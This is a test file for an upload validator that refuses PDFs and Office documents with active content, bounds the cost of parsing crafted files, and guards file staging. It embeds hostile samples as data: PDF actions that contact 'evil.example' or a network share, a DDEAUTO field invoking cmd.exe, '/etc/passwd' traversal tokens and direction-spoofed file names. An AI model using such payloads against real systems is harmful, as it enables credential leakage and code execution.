    expect(sniffAttachment(await sample.pptxLinkedMedia(`${R}/video`, "https://v.qq.com/x/page/a.html"), "汇报.pptx").kind).toBe("pptx");
    const vendor = `<Relationship Id="rId9" Type="http://schemas.example.com/relationships/vendorThing" Target="https://www.example.com/x" TargetMode="External"/>`;
    expect(sniffAttachment(await sample.docxWithRelationship("word/_rels/document.xml.rels", vendor), "说明.docx").kind).toBe("docx");
  });

  const URI = "<</S /URI /URI (http://evil.example/opened)>>";
  it("a PDF opening an address by itself (/OpenAction to a URI action): said in full", () => {
    expect(refusal(() => sniffAttachment(sample.pdfWith("/OpenAction 3 0 R", URI), "整改报告.pdf")).zh).toBe(
      `附件“整改报告.pdf”是含有打开文档、翻页或鼠标经过时自动访问网址的动作（URI）的 PDF，不能上传：打开或点击时会连接其他电脑或网址（可能把本机的登录凭据发给对方），请用“打印为 PDF”另存一份后上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
    );
  });

  it.each([
    [
      "a URI action after a go-to on opening (/Next)",
      () => sample.pdfWith("/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next [4 0 R]>>", "<</Type /Page>>", URI),
      "自动访问网址的动作（URI）",
    ],
    ["a URI action when a page opens (/AA /O)", () => sample.pdfWithPage("", `/AA <</O ${URI}>>`), "自动访问网址的动作（URI）"],
    ["a URI action before printing (the document's /AA /WP)", () => sample.pdfWith("/AA 3 0 R", "<</WP 4 0 R>>", URI), "自动访问网址的动作（URI）"],
    [
      "a URI action when the mouse passes over a link (its /AA /E)",
      () => sample.pdfWithPage("", "/Annots [4 0 R]", `<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /AA <</E 5 0 R>>>>`, URI),
      "自动访问网址的动作（URI）",
    ],
    [
      "a URI action on opening, the key's name escaped and its type a reference",
      () => sample.pdfWith("/Open#41ction 3 0 R", "<</S 4 0 R /URI (http://evil.example/)>>", "/U#52I"),
      "自动访问网址的动作（URI）",
    ],
    [
      "a URI action on opening kept in a compressed object stream",
      () => {
        const objects = Buffer.from(`3 0 ${URI}`, "latin1");
        const data = deflateSync(objects);
        return Buffer.concat([
          Buffer.from(
            "%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n",
            "latin1",
          ),
          Buffer.from(`4 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length}>> stream\n`, "latin1"),
          data,
          Buffer.from("\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "latin1"),
        ]);
      },
      "自动访问网址的动作（URI）",
    ],
    // a PDF on a share opened by itself: CVE-2018-4993's readers connected without asking
    [
      "a PDF on a share opened when a page opens (GoToR)",
      () => sample.pdfWithPage("", "/AA <</O <</S /GoToR /F (\\\\\\\\fileserver\\\\share\\\\x.pdf) /D [0 /Fit]>>>>"),
      "含有打开文档、翻页或鼠标经过时自动打开其他 PDF 文件的动作（GoToR、GoToE）的 PDF",
    ],
    [
      "a GoToE action on opening",
      () => sample.pdfWith("/OpenAction <</S /GoToE /F (\\\\\\\\fileserver\\\\share\\\\x.pdf) /T <</R /C /N (a)>>>>"),
      "自动打开其他 PDF 文件的动作（GoToR、GoToE）",
    ],
    // wherever they are, a link's too: no form is there for the center to fill or send
    [
      "form data imported from a share (ImportData)",
      () => sample.pdfWith("/OpenAction <</S /ImportData /F (\\\\\\\\fileserver\\\\share\\\\x.fdf)>>"),
      "从其他文件导入表单数据的动作（ImportData）",
    ],
    [
      "a form sent to an address (SubmitForm)",
      () => sample.pdfWith("/AcroForm <</Fields [3 0 R]>>", "<</FT /Btn /A <</S /SubmitForm /F <</FS /URL /F (http://evil.example/c)>>>>>>"),
      "把表单提交到网络地址的动作（SubmitForm）",
    ],
  ] as const)("a PDF with %s is refused", (_what, make, says) => {
    expect(refusal(() => sniffAttachment(make(), "整改报告.pdf")).zh).toContain(says);
  });

  it("an ordinary PDF is taken: links clicked (URI, to a page, to another PDF), opening at a page, a page's local action", () => {
    // one rule for a link clicked, wherever it points (as for a .docx's hyperlinks): to 附件2.pdf next to the report,
    // as PDFMaker, WPS and Office write one, and to a PDF on a share, as a URI to a share (below) is let be
    for (const file of ["附件2.pdf", "../附件/x.pdf", "\\\\\\\\fileserver\\\\share\\\\x.pdf"]) {
      const link = sample.pdfWithPage("", `/Annots [<</Subtype /Link /Rect [72 700 200 720] /A <</S /GoToR /F (${file}) /D [0 /Fit]>>>>]`);
      expect(sniffAttachment(link, "说明.pdf").kind, file).toBe("pdf");
    }
    // the opening destination names page 3, whose link to a web site is clicked: the page is not read as an action
    const links = sample.pdfWithPage(
      "/OpenAction [3 0 R /Fit] /Names <</Dests 6 0 R>>",
      `/Annots [<</Type /Annot /Subtype /Link /Rect [72 700 200 720] /A ${URI}>> 4 0 R] /AA <</O <</S /Named /N /FirstPage>>>>`,
      "<</Type /Annot /Subtype /Link /Rect [72 600 200 620] /A 5 0 R>>",
      "<</S /URI /URI (\\\\\\\\fileserver\\\\share\\\\通知.pdf)>>",
      "<</Names [(a) [3 0 R /Fit]]>>",
    );
    expect(sniffAttachment(links, "说明.pdf").kind).toBe("pdf");
    // the opening action an object naming a destination
    expect(sniffAttachment(sample.pdfWithPage("/OpenAction 4 0 R", "", "[3 0 R /XYZ null null 0]"), "说明.pdf").kind).toBe("pdf");
  });

  it("a PDF of more opening and additional actions than a real one has, or nested or referenced to be slow, is refused in words within bounds", () => {
    const tangled = "结构异常（动作嵌套过深或引用过多）、无法检查其中有无自动执行的动作的 PDF";
    const many = Buffer.from(`%PDF-1.7\n${"/AA <<>> ".repeat(10_001)}%%EOF\n`, "latin1");
    expect(refusal(() => sniffAttachment(many, "x.pdf")).zh).toContain(tangled);
    expect(sniffAttachment(Buffer.from(`%PDF-1.7\n${"/AA <<>> ".repeat(10_000)}%%EOF\n`, "latin1"), "x.pdf").kind).toBe("pdf");
    expect(refusal(() => sniffAttachment(Buffer.from(`%PDF-1.7\n1 0 obj <</OpenAction ${"[".repeat(100_000)}`, "latin1"), "x.pdf")).zh).toContain(tangled);
    // 400,000 objects of one number, each followed to the next: 2 s before the parse was bounded
    const budget = fileBudget();
    const referenced = Buffer.from(`%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>>\n${"2 0 obj <</Next 2 0 R>>\n".repeat(400_000)}`, "latin1");
    expect(pdfActiveContent(referenced, budget)?.what).toBe(tangled);
    // MAX_ACTION_CHARS, 2 MB, is what may be parsed of the actions' values
    expect(budget.scanned).toBeLessThanOrEqual(2 * 1024 * 1024 + 100);
  });
});

const body = (bytes: Buffer) => Readable.from([bytes]);
const staged = () => (existsSync(attachmentStagingDir) ? readdirSync(attachmentStagingDir).sort() : []);

describe("files made to be slow to read (sec3 #1): the work each takes is bounded by its size, its entries and its inflations", () => {
  // the work each check does is counted (characters its tags and "endstream" were looked for over), not timed: read
  // as before, each of these took minutes to hours, and the request thread answered no one meanwhile
  const TYPES = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`;
  const docxOf = (parts: Record<string, string>) =>
    zipParts(Object.entries({ "[Content_Types].xml": TYPES, ...parts }).map(([name, data]) => ({ name, data })));

  it.each([
    ["a Word part of an unended <w:fldSimple repeated (926 bytes zipped took 25 s)", "word/document.xml", "<w:document>", "<w:fldSimple "],
    ["an unended <w:instrText repeated", "word/document.xml", "<w:document>", "<w:instrText "],
    ["content types of an unended <Override repeated", "[Content_Types].xml", "<Types>", "<Override "],
    ["relationships of an unended <Relationship repeated", "_rels/.rels", "<Relationships>", "<Relationship "],
  ])("%s: read once, 10 MB of it too", async (_, part, head, repeated) => {
    for (const times of [20_000, 800_000]) {
      const xml = head + repeated.repeat(times);
      const budget = fileBudget();
      expect(officeActiveContent(await docxOf({ [part]: xml, "word/x.xml": "<w:document/>" }), 0, budget)).toBeNull();
      // tried at every one of them, the pattern read (times² / 2) × its length: 2.6 billion characters for 20,000
      expect(budget.scanned).toBeLessThanOrEqual(2 * xml.length);
    }
  });

  it("a tag after a quote that never closes is still found (the pattern's tries, not a reader's), and quotes placed to make the tries overlap are refused, not read for ever", async () => {
    const hidden = await sample.docxBody(`<w:fldSimple x='<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/>`);
    expect(refusal(() => sniffAttachment(hidden, "说明.docx")).zh).toContain("DDE");
    const budget = fileBudget();
    const tangled = `<w:document>${'<w:fldSimple "'.repeat(20_000)}`;
    expect(officeActiveContent(await docxOf({ "word/document.xml": tangled }), 0, budget)?.en).toBe(
      "an Office document whose XML parts are too tangled to check",
    );
    // twice its length, and the try that went past it
    expect(budget.scanned).toBeLessThanOrEqual(3 * tangled.length + 65_536);
  });

  it('a PDF of "<</Length 0>>stream" repeated without "endstream" (1 MB took 42 s): read once, 10 MB of it too, and what follows is still read', () => {
    for (const times of [50_000, 500_000]) {
      const file = Buffer.from(`%PDF-1.4\n${"<</Length 0>>stream\n".repeat(times)}%%EOF\n`, "latin1");
      const budget = fileBudget();
      expect(pdfActiveContent(file, budget)).toBeNull();
      expect(budget.scanned).toBeLessThanOrEqual(file.length);
    }
    const after = Buffer.from(`%PDF-1.4\n${"<</Length 0>>stream\n".repeat(50_000)}1 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj\n%%EOF\n`, "latin1");
    expect(refusal(() => sniffAttachment(after, "x.pdf")).zh).toContain("脚本（JavaScript）");
  });

  function localHeader(name: string, size: number): Buffer {
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt32LE(size, 18);
    header.writeUInt32LE(size, 22);
    header.writeUInt16LE(Buffer.byteLength(name), 26);
    return Buffer.concat([header, Buffer.from(name)]);
  }

  it("a ZIP whose stored entries each run over the rest of the file (20,000 in 800 KB took 5 min, then was taken as Word) is refused in words", () => {
    const file = Buffer.concat([localHeader("[Content_Types].xml", 0), ...Array.from({ length: 5_000 }, () => localHeader("word/a.xml", 0xffffffff))]);
    const err = refusal(() => sniffAttachment(file, "说明.docx"));
    expect(err.zh).toContain("附件“说明.docx”是结构异常（其中的文件相互重叠）、无法检查其中有无宏和外部链接的 Office 文档，不能上传：");
    expect(err.detail).toEqual({ refusedAttachment: "an Office document whose ZIP entries overlap" });
  });

  it("stored entries count against what a file may have read, as inflated ones do", async () => {
    const file = await zipParts([
      { name: "[Content_Types].xml", data: TYPES, stored: true },
      { name: "word/document.xml", data: `<w:document>${"<w:p/>".repeat(1000)}</w:document>`, stored: true },
    ]);
    expect(officeActiveContent(file)).toBeNull();
    expect(officeActiveContent(file, 0, { left: 1000, scanned: 0, entries: 0 })?.en).toBe("an Office document too large to check");
  });

  /** Local headers of these entries, deflated, and no central directory (as /tmp/rv9's files of a review). */
  function localZip(entries: [string, Buffer][]): Buffer {
    return Buffer.concat(
      entries.flatMap(([name, data]) => {
        const header = localHeader(name, data.length);
        header.writeUInt16LE(8, 8);
        return [header, data];
      }),
    );
  }
  const tiny = deflateRawSync(Buffer.from("<a/>"));
  const tinyParts = (n: number): [string, Buffer][] => [
    ["[Content_Types].xml", tiny],
    ...Array.from({ length: n }, (_, i): [string, Buffer] => [`word/${i.toString(36)}.xml`, tiny]),
  ];
  /** content types and `n` entries word/a.xml of "<a/>" each, made at once (a Buffer filled with one entry) */
  const crowded = (n: number) => {
    const one = localZip([["word/a.xml", tiny]]);
    return Buffer.concat([localZip([["[Content_Types].xml", tiny]]), Buffer.alloc(n * one.length, one)]);
  };
  const CROWDED = `结构异常（其中的文件超过 ${MAX_ZIP_ENTRIES} 个，含嵌入的文档中的）、无法检查其中有无宏和外部链接的 Office 文档`;

  it("a ZIP of more entries than any real package (215,000 tiny parts in 10 MB took 11 s, then was taken as Word) is refused before any is read", () => {
    const file = crowded(225_000);
    expect(file.length).toBeLessThanOrEqual(MAX_ATTACHMENT_BYTES);
    expect(refusal(() => sniffAttachment(file, "说明.docx")).zh).toContain(`附件“说明.docx”是${CROWDED}，不能上传：`);
    const budget = fileBudget();
    expect(officeActiveContent(file, 0, budget)?.en).toBe(`an Office document whose ZIP holds over ${MAX_ZIP_ENTRIES} entries, embedded ones counted`);
    // the entries looked at stop one past the limit, and nothing was inflated
    expect([budget.entries, budget.left, budget.scanned]).toEqual([MAX_ZIP_ENTRIES + 1, fileBudget().left, 0]);
  });

  it("an embedded package's entries count with its container's (600,000 in a 1.5 MB docx took 23 s): refused after one inflation", () => {
    const inner = crowded(600_000);
    const file = localZip([
      ["[Content_Types].xml", tiny],
      ["word/embeddings/a.docx", deflateRawSync(inner)],
    ]);
    const budget = fileBudget();
    expect(officeActiveContent(file, 0, budget)?.en).toBe(`an Office document whose ZIP holds over ${MAX_ZIP_ENTRIES} entries, embedded ones counted`);
    expect(budget.entries).toBe(2 + MAX_ZIP_ENTRIES + 1);
    // the content types, and the package (28 MB): two inflations
    expect(fileBudget().left - budget.left).toBe(inner.length + 4 + 2 * 4096);
    // under the limit, the same nesting is read
    expect(
      sniffAttachment(
        localZip([
          ["[Content_Types].xml", tiny],
          ["word/embeddings/a.docx", deflateRawSync(localZip(tinyParts(1000)))],
        ]),
        "a.docx",
      ).kind,
    ).toBe("docx");
  });

  it("each inflation costs the budget a fixed amount besides its bytes: many tiny parts use it up as one large part does", () => {
    const file = localZip(tinyParts(5_000));
    const budget = fileBudget();
    expect(officeActiveContent(file, 0, budget)).toBeNull();
    expect(fileBudget().left - budget.left).toBeGreaterThanOrEqual(5_001 * 4096);
    expect(officeActiveContent(file, 0, { left: 1000 * 4096, scanned: 0, entries: 0 })?.en).toBe("an Office document too large to check");
  });
});

describe("ZIP64: sizes and offsets of 0xFFFFFFFF with the real ones in the ZIP64 extra field", () => {
  /**
   * A ZIP as a streaming ZIP64 writer makes it (.NET's ZipArchive on a stream it cannot seek, Python's force_zip64):
   * 0xFFFFFFFF for every size and offset, in local headers and central directory, the real ones in the extra field 0x0001.
   */
  function zip64(parts: [string, string][]): Buffer {
    const locals: Buffer[] = [];
    const central: Buffer[] = [];
    let offset = 0;
    for (const [n, text] of parts) {
      const [name, raw] = [Buffer.from(n), Buffer.from(text)];
      const data = deflateRawSync(raw);
      const extra = (values: number[]) => {
        const field = Buffer.alloc(4 + 8 * values.length);
        field.writeUInt16LE(1, 0);
        field.writeUInt16LE(8 * values.length, 2);
        for (const [i, v] of values.entries()) field.writeBigUInt64LE(BigInt(v), 4 + 8 * i);
        return field;
      };
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(45, 4);
      local.writeUInt16LE(8, 8);
      local.writeUInt32LE(0xffffffff, 18);
      local.writeUInt32LE(0xffffffff, 22);
      local.writeUInt16LE(name.length, 26);
      const localExtra = extra([raw.length, data.length]);
      local.writeUInt16LE(localExtra.length, 28);
      const entry = Buffer.alloc(46);
      entry.writeUInt32LE(0x02014b50, 0);
      entry.writeUInt16LE(45, 4);
      entry.writeUInt16LE(45, 6);
      entry.writeUInt16LE(8, 10);
      entry.writeUInt32LE(0xffffffff, 20);
      entry.writeUInt32LE(0xffffffff, 24);
      entry.writeUInt16LE(name.length, 28);
      const centralExtra = extra([raw.length, data.length, offset]);
      entry.writeUInt16LE(centralExtra.length, 30);
      entry.writeUInt32LE(0xffffffff, 42);
      locals.push(local, name, localExtra, data);
      central.push(entry, name, centralExtra);
      offset += 30 + name.length + localExtra.length + data.length;
    }
    const directory = Buffer.concat(central);
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0);
    end.writeUInt16LE(parts.length, 8);
    end.writeUInt16LE(parts.length, 10);
    end.writeUInt32LE(directory.length, 12);
    end.writeUInt32LE(offset, 16);
    return Buffer.concat([...locals, directory, end]);
  }
  const TYPES = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`;
  const document = (body: string) =>
    zip64([
      ["[Content_Types].xml", TYPES],
      ["word/document.xml", `<w:document><w:body>${body}</w:body></w:document>`],
    ]);
  /** the same without its central directory: its entries from the local headers (a file cut short) */
  const cut = (file: Buffer) => file.subarray(0, file.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));

  it("a document is taken (it was refused as of overlapping entries) and its parts read where they are", () => {
    for (const file of [document("<w:p/>"), cut(document("<w:p/>"))]) expect(sniffAttachment(file, "说明.docx").kind).toBe("docx");
    for (const file of [document(`<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/>`), cut(document(`<w:fldSimple w:instr="DDEAUTO cmd"/>`))])
      expect(refusal(() => sniffAttachment(file, "说明.docx")).zh).toContain("DDE 域");
  });
});

describe("staging", () => {
  const tokens: string[] = [];
  afterEach(async () => {
    await discardStaged(tokens.splice(0));
  });

  it("stages a file on disk with its sidecar, and takes it back byte for byte for its own user only", async () => {
    const bytes = sample.pdf("第一份");
    const s = await stageAttachment("C:\\Users\\张三\\情况说明.pdf", body(bytes), "tangshan", bytes.length);
    tokens.push(s.token);
    expect(s).toEqual({ token: expect.stringMatching(/^[0-9a-f-]{36}$/), fileName: "情况说明.pdf", mediaType: "application/pdf", size: bytes.length });
    expect(staged()).toEqual(expect.arrayContaining([`${s.token}.bin`, `${s.token}.json`]));
    const [taken] = await takeStaged([s.token], "tangshan");
    expect(taken?.content.equals(bytes)).toBe(true);
    expect(taken).toMatchObject({
      fileName: "情况说明.pdf",
      mediaType: "application/pdf",
      size: bytes.length,
      sha256: createHash("sha256").update(bytes).digest("hex"),
    });
    // taking does not remove (a refused submission is sent again); discarding does
    expect((await takeStaged([s.token, s.token], "tangshan")).length).toBe(1);
    const other = await refusedAsync(takeStaged([s.token], "qitazhen"));
    expect(other.zh).toBe("附件已失效，请重新上传");
    await discardStaged([s.token]);
    expect(staged()).not.toContain(`${s.token}.bin`);
    expect((await refusedAsync(takeStaged([s.token], "tangshan"))).zh).toBe("附件已失效，请重新上传");
  });

  it("a PDF named .exe is staged as a PDF under a name that says so", async () => {
    const s = await stageAttachment("说明.exe", body(sample.pdf()), "tangshan");
    tokens.push(s.token);
    expect([s.fileName, s.mediaType]).toEqual(["说明.exe.pdf", "application/pdf"]);
  });

  it("refuses a program, an empty file, a bad name: nothing is kept", async () => {
    const before = staged();
    expect((await refusedAsync(stageAttachment("说明.pdf", body(sample.exe()), "tangshan"))).zh).toContain("Windows 可执行程序");
    expect((await refusedAsync(stageAttachment("空.pdf", Readable.from([]), "tangshan"))).zh).toContain("空的");
    expect((await refusedAsync(stageAttachment("a\u202egpj.exe", body(sample.pdf()), "tangshan"))).zh).toContain("控制字符");
    // invisible or turning the name around, or what a report cannot hold: a C1 control, a direction mark, a line separator…
    for (const name of [
      "\u061cfdp.exe",
      "a\u0085b.pdf",
      "a\u2028b.pdf",
      "a\ufeffb.pdf",
      "a\u2060b.pdf",
      "a\ufffe.pdf",
      "a\u00adb.pdf",
      "a\u3164b.pdf",
      "a\ufff9b.pdf",
      "a\u206ab.pdf",
    ]) {
      expect((await refusedAsync(stageAttachment(name, body(sample.pdf()), "tangshan"))).zh).toContain("控制字符");
    }
    expect((await refusedAsync(stageAttachment("", body(sample.pdf()), "tangshan"))).zh).toContain("文件名");
    expect(staged()).toEqual(before);
  });

  it("refuses over 10 MB by the declared length before reading, and while it streams in", async () => {
    const before = staged();
    const unread = new Readable({
      read() {
        throw new Error("the body should not have been read");
      },
    });
    const declared = await refusedAsync(stageAttachment("大文件.pdf", unread, "tangshan", 200 * 1024 * 1024));
    expect(declared.detail).toEqual({ tooLarge: true });
    expect(declared.zh).toContain("超过 10 MB");
    const over = Buffer.concat([sample.pdf(), Buffer.alloc(MAX_ATTACHMENT_BYTES + 1 - sample.pdf().length)]);
    expect(over.length).toBe(MAX_ATTACHMENT_BYTES + 1);
    // in chunks, as a request streams
    const chunks = Array.from({ length: Math.ceil(over.length / 65536) }, (_, i) => over.subarray(i * 65536, (i + 1) * 65536));
    const streamed = await refusedAsync(stageAttachment("大文件.pdf", Readable.from(chunks), "tangshan"));
    expect(streamed.detail).toEqual({ tooLarge: true });
    expect(staged()).toEqual(before);
    // exactly the limit is accepted
    const s = await stageAttachment("刚好.pdf", body(over.subarray(0, MAX_ATTACHMENT_BYTES)), "tangshan");
    tokens.push(s.token);
    expect(s.size).toBe(MAX_ATTACHMENT_BYTES);
  });

  it("a token is a UUID and nothing else: paths are refused without touching the disk", async () => {
    const s = await stageAttachment("说明.pdf", body(sample.pdf()), "tangshan");
    tokens.push(s.token);
    for (const bad of [
      "../../../../etc/passwd",
      `${s.token}/../${s.token}`,
      `../${process.pid}/${s.token}`,
      `${s.token}.bin`,
      `${s.token}\0`,
      s.token.toUpperCase(),
      "",
    ]) {
      expect((await refusedAsync(takeStaged([bad], "tangshan"))).zh, bad).toBe("附件已失效，请重新上传");
    }
    // an unknown but well-formed token
    expect((await refusedAsync(takeStaged(["00000000-0000-4000-8000-000000000000"], "tangshan"))).zh).toBe("附件已失效，请重新上传");
    await discardStaged(["../../x", `${s.token}/..`]);
    expect(staged()).toContain(`${s.token}.bin`);
  });

  it(`refuses more than ${MAX_ATTACHMENTS} attachments at once`, async () => {
    for (let i = 0; i <= MAX_ATTACHMENTS; i++) tokens.push((await stageAttachment(`照片${i}.png`, body(sample.png()), "tangshan")).token);
    expect((await takeStaged(tokens.slice(0, MAX_ATTACHMENTS), "tangshan")).length).toBe(MAX_ATTACHMENTS);
    expect((await refusedAsync(takeStaged(tokens, "tangshan"))).zh).toContain(`每次最多附 ${MAX_ATTACHMENTS} 个文件`);
  });

  it("a file changed on disk after staging is not taken", async () => {
    const s = await stageAttachment("说明.pdf", body(sample.pdf()), "tangshan");
    tokens.push(s.token);
    writeFileSync(join(attachmentStagingDir, `${s.token}.bin`), sample.exe());
    expect((await refusedAsync(takeStaged([s.token], "tangshan"))).zh).toBe("附件已失效，请重新上传");
  });

  it("files older than a day are removed when another is staged; each user keeps 20 at most", async () => {
    const old = await stageAttachment("旧.pdf", body(sample.pdf()), "tangshan");
    const dayAgo = new Date(Date.now() - 25 * 3600_000);
    for (const ext of ["bin", "json"]) utimesSync(join(attachmentStagingDir, `${old.token}.${ext}`), dayAgo, dayAgo);
    const fresh = await stageAttachment("新.pdf", body(sample.pdf()), "qitazhen");
    tokens.push(fresh.token);
    expect(staged()).not.toContain(`${old.token}.json`);
    expect(staged()).not.toContain(`${old.token}.bin`);

    const mine: string[] = [];
    for (let i = 0; i < 21; i++) {
      mine.push((await stageAttachment(`照片${i}.png`, body(sample.png()), "xiaoyu")).token);
      // distinct times, so that "oldest" is well defined
      const at = new Date(Date.now() - (100 - i) * 1000);
      for (const ext of ["bin", "json"]) utimesSync(join(attachmentStagingDir, `${mine[i]}.${ext}`), at, at);
    }
    tokens.push(...mine);
    expect(staged()).not.toContain(`${mine[0]}.bin`);
    expect(staged()).toContain(`${mine[1]}.bin`);
    expect(staged()).toContain(`${fresh.token}.bin`);
  });

  it("the folders of processes that are gone are removed, this process's kept", async () => {
    const s = await stageAttachment("说明.pdf", body(sample.pdf()), "tangshan");
    tokens.push(s.token);
    const gone = join(ATTACHMENT_STAGING_ROOT, "2147483646");
    mkdirSync(gone, { recursive: true });
    writeFileSync(join(gone, "00000000-0000-4000-8000-000000000000.bin"), "x");
    expect(removeOrphanAttachments()).toContain("2147483646");
    expect(existsSync(gone)).toBe(false);
    expect(staged()).toContain(`${s.token}.bin`);
  });
});
